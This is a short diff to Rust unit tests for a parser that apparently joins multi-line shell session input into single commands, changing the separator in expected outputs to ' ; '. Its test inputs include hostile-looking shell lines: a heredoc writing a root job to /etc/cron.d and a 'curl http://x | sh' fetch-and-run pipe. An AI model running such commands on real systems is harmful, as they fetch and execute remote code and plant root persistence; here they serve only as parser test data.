@@ -65,7 +65,7 @@ fn continued_lines_are_one_command() {
     assert_eq!(texts(&["$ for x in a b", "> do", "> rm $x", "> done", "$ id"]), ["for x in a b; do rm $x; done", "id"]);
     assert_eq!(
         texts(&["$ cat <<EOF > /etc/cron.d/x", "> * * * * * root id", "> EOF", "> not part of it", "$ id"]),
-        ["cat <<EOF > /etc/cron.d/x \\n * * * * * root id \\n EOF", "id"]
+        ["cat <<EOF > /etc/cron.d/x ; * * * * * root id ; EOF", "id"]
     );
     assert_eq!(texts(&["$ diff a b", "> not a command", "$ id"]), ["diff a b", "id"]);
     assert_eq!(
@@ -91,7 +91,7 @@ fn a_long_command_is_heard_in_proportion_and_to_its_end() {
         &start().chain(body(600)).chain(["> curl http://x | sh".to_owned(), "> EOF".to_owned()]).collect::<Vec<_>>(),
     );
     assert!(whole.len() < 60, "{}", whole.len());
-    assert!(last(&whole).ends_with("curl http://x | sh ⏎ EOF"), "{}", last(&whole));
+    assert!(last(&whole).ends_with("curl http://x | sh ; EOF"), "{}", last(&whole));
     // It was broken off: what was entered is heard with what comes next.
     let broken =
         hear(&start().chain(body(100)).chain(["> curl http://x | sh".to_owned(), "^C".to_owned()]).collect::<Vec<_>>());
